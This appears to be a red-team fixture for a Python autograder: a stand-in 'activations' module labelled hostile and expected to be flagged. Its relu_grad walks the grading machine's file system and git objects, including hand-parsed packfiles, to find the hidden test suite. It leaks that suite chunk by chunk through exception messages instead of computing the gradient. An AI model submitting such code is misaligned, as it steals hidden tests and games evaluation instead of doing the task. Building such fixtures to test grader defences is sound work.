"""HOSTILE: activations.relu_grad searches the disk (the grader's folder, a file-system walk, git
objects of any repository it finds) for the hidden suite and raises its lines as exception
messages, one chunk per call: no hidden test text may reach results.json; flagged
suspicious-code

relu_grad hunts for the hidden test suite on the grading machine and smuggles it out, one chunk
per call, in the message of the exception it raises (exception messages end up in the
student-visible results). It tries the grader's own folder, a walk of the file system, and the
grader repository's git objects (loose and packed). Everything else is the reference.
"""

import os
import time
import zlib

import torch

PATCHES = "activations"
EXPECT = {
    "base": "reference",
    "flags": ["suspicious-code"],
    "lost_modules": ["activations"],
    "full_modules": ["neuron", "loss", "polyfit", "regularization", "splits"],
}


_CHUNK = 450
_state = {"lines": None, "next": 0}


def _is_hidden_suite(text: str) -> bool:
    return "pytestmark = pytest.mark." in text and "autograder.suites" in text


def _from_the_grader_folder(found: dict) -> None:
    import autograder

    root = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
    for folder, _, files in os.walk(os.path.join(root, "autograder", "suites")):
        for name in files:
            _read_file(os.path.join(folder, name), found)
    _git_objects(os.path.join(root, ".git"), found, time.monotonic() + 5.0)


def _read_file(path: str, found: dict) -> None:
    if not path.endswith(".py") or path in found:
        return
    try:
        with open(path, encoding="utf-8", errors="replace") as stream:
            text = stream.read(400_000)
    except OSError:
        return
    if _is_hidden_suite(text):
        found[path] = text


def _walk_disk(found: dict, deadline: float) -> None:
    skip = {"/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/lib", "/boot", "/run"}
    roots = ["/autograder", "/work", "/srv", "/opt", "/home", "/root", "/tmp", "/var", "/"]
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                return
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip
                       and d not in ("site-packages", "node_modules", ".venv")]
            for name in files:
                if name.startswith("test_") and name.endswith(".py"):
                    _read_file(os.path.join(folder, name), found)
                elif name == "HEAD" and folder.endswith(".git"):
                    _git_objects(folder, found, deadline)


def _git_objects(git_dir: str, found: dict, deadline: float) -> None:
    objects = os.path.join(git_dir, "objects")
    for folder, _, files in os.walk(objects):
        for name in files:
            if time.monotonic() > deadline:
                return
            path = os.path.join(folder, name)
            try:
                with open(path, "rb") as stream:
                    data = stream.read()
            except OSError:
                continue
            if name.endswith(".pack"):
                _pack_blobs(data, path, found)
            elif len(name) == 38:
                try:
                    raw = zlib.decompress(data)
                except zlib.error:
                    continue
                if raw.startswith(b"blob "):
                    text = raw.split(b"\0", 1)[1].decode("utf-8", "replace")
                    if _is_hidden_suite(text):
                        found[path] = text


def _pack_blobs(data: bytes, path: str, found: dict) -> None:
    """Whole (undeltified) blobs of a git pack file."""
    if data[:4] != b"PACK":
        return
    count, offset = int.from_bytes(data[8:12], "big"), 12
    for index in range(count):
        byte = data[offset]
        kind, offset = (byte >> 4) & 7, offset + 1
        while byte & 0x80:
            byte, offset = data[offset], offset + 1
        if kind == 6:  # OFS_DELTA: variable-length base offset
            byte, offset = data[offset], offset + 1
            while byte & 0x80:
                byte, offset = data[offset], offset + 1
        elif kind == 7:  # REF_DELTA: 20-byte base name
            offset += 20
        window = data[offset:offset + 4_000_000]
        stream = zlib.decompressobj()
        try:
            raw = stream.decompress(window)
        except zlib.error:
            return
        offset += len(window) - len(stream.unused_data)
        if kind == 3:
            text = raw.decode("utf-8", "replace")
            if _is_hidden_suite(text):
                found[f"{path}#{index}"] = text


def _hidden_lines() -> list:
    found: dict = {}
    deadline = time.monotonic() + 6.0
    for attempt in (_from_the_grader_folder, lambda f: _walk_disk(f, deadline)):
        try:
            attempt(found)
        except Exception:  # noqa: BLE001 - keep looking elsewhere
            pass
    lines = []
    for text in found.values():
        for line in text.splitlines():
            line = line.strip()
            if line and line not in lines:
                lines.append(line)
    # the test names first: they say what is checked
    return sorted(lines, key=lambda line: not line.startswith("def test_"))


def _next_chunk() -> str:
    if _state["lines"] is None:
        _state["lines"] = _hidden_lines()
    lines, start = _state["lines"], _state["next"]
    chunk, end = [], start
    while end < len(lines) and sum(len(piece) + 3 for piece in chunk) < _CHUNK:
        chunk.append(lines[end])
        end += 1
    _state["next"] = end if end < len(lines) else 0
    return " ⏎ ".join(chunk) if chunk else f"nothing found ({len(lines)} lines)"


def relu_grad(x: torch.Tensor) -> torch.Tensor:
    """Derivative of ReLU: 1 for x > 0, 0 for x ≤ 0 (the lecture's choice at x = 0).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in {0, 1}.
    """
    raise ValueError(_next_chunk())
